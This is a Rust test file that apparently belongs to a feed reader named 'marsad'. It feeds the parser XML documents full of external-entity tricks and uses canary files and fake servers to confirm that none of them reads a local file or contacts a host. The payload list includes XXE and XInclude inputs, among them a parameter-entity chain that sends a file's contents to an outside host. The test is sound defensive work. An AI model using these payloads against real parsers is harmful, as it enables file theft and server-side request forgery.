//! A document that names files and hosts, as XML lets it: none is opened, none is asked.

use super::{
    proxies::{round, spoken_to},
    *,
};
use crate::support::server::{Reply, Server};
use marsad::store::open;

#[test]
fn no_entity_of_a_document_opens_a_file_or_reaches_a_host() {
    visit("island::entities::on_an_island_no_entity_opens_or_reaches_anything");
}

/// Documents that name `FILE` and `HOST` in every way there is.
const DOCUMENTS: &[&str] = &[
    // A file and hosts as general entities, in text, in an attribute and as an entity of an entity.
    "<!DOCTYPE rss [<!ENTITY a SYSTEM \"file://FILE\"><!ENTITY b SYSTEM \"http://HOST/b\"><!ENTITY c PUBLIC \"-//x//y\" \"FILE\">\
     <!ENTITY d \"&a;&b;\"><!ENTITY e SYSTEM \"ftp://HOST/e\">]>\
     <rss version=\"2.0\"><channel><item><guid>1</guid><title>One &a;&b;&c;&d;&e;</title><description a=\"&d;\">&a;</description></item></channel></rss>",
    // A document type that lies elsewhere.
    "<!DOCTYPE rss SYSTEM \"http://HOST/rss.dtd\"><rss version=\"2.0\"><channel><item><guid>1</guid><title>One</title></item></channel></rss>",
    "<!DOCTYPE rss PUBLIC \"-//x//y\" \"file://FILE\"><rss version=\"2.0\"><channel><item><guid>1</guid><title>One</title></item></channel></rss>",
    // Parameter entities, which carry a file to a host.
    "<!DOCTYPE feed [<!ENTITY % file SYSTEM \"file://FILE\"><!ENTITY % all \"<!ENTITY &#x25; out SYSTEM 'http://HOST/?%file;'>\">%all;%out;\
     <!ENTITY % far SYSTEM \"http://HOST/far.dtd\">%far;]>\
     <feed xmlns=\"http://www.w3.org/2005/Atom\"><id>x</id><entry><id>1</id><title>One &out;</title></entry></feed>",
    // What is included, styled or described elsewhere.
    "<?xml version=\"1.0\" standalone=\"no\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://HOST/style.xsl\"?>\
     <rss version=\"2.0\" xmlns:xi=\"http://www.w3.org/2001/XInclude\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
     xsi:schemaLocation=\"http://HOST/ http://HOST/schema.xsd\"><channel><item><guid>1</guid><title>One</title><description>\
     <xi:include href=\"file://FILE\" parse=\"text\"/><xi:include href=\"http://HOST/part\"/></description></item></channel></rss>",
    // Notations and entities that are not parsed.
    "<!DOCTYPE rss [<!NOTATION n SYSTEM \"FILE\"><!ENTITY p SYSTEM \"http://HOST/picture\" NDATA n><!ATTLIST rss a ENTITY #FIXED \"p\">]>\
     <rss version=\"2.0\"><channel><item><guid>1</guid><title>One &p;</title></item></channel></rss>",
];

#[test]
#[ignore = "one half of a test, which the other half runs on an island"]
fn on_an_island_no_entity_opens_or_reaches_anything() {
    if !is_here() {
        return;
    }
    let names = NameServer::start(|_, _| vec![PUBLIC]);
    let shores = [21, 80].map(|port| Shore::at(port, |_| b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nCANARY".to_vec()));
    let folder = tempfile::tempdir().unwrap();
    let secret = folder.path().join("named-by-a-document");
    std::fs::write(&secret, "CANARY").unwrap();
    let documents: Vec<String> = DOCUMENTS
        .iter()
        .flat_map(|text| {
            ["entity.example", "93.184.216.34"].map(|host| text.replace("HOST", host).replace("FILE", secret.to_str().unwrap()))
        })
        .collect();
    let feeds = documents.len() as i64;
    let server = Server::start(move |seen| {
        Reply::ok(documents[seen.path[1..].parse::<usize>().unwrap()].clone()).header("Content-Type", "application/xml")
    });
    let mut config = String::from("[poll]\nhost_gap = '0s'\n[alert]\nsinks = ['journal']\n");
    for n in 0..feeds {
        config += &format!("[[feed]]\nname = 'f{n}'\nurl = '{}'\nallow_private = true\n", server.url(&format!("/{n}")));
    }
    let (failed, calls) = round(folder.path(), &config);
    assert_eq!(failed, 0, "each is a feed all the same");
    let archive = open::read_only(&folder.path().join("data/marsad.db")).unwrap();
    let articles = |which: &str| -> i64 {
        archive.query_row(&format!("SELECT count(*) FROM article WHERE title LIKE 'One%' AND {which}"), [], |row| row.get(0)).unwrap()
    };
    assert_eq!((articles("true"), articles("title || text LIKE '%CANARY%'")), (feeds, 0));
    // What it opens is seen here, the archive for one, and the document's file is not among it.
    let opened = |name: &str| calls.iter().any(|call| call.contains("open") && call.contains(name));
    assert!(opened("marsad.db") && !opened("named-by-a-document"), "{calls:#?}");
    assert_eq!(spoken_to(&calls), [server.addr().to_string()].into(), "{calls:#?}");
    assert_eq!((names.asked(), shores[0].accepts(), shores[1].accepts()), (vec![], 0, 0));
}
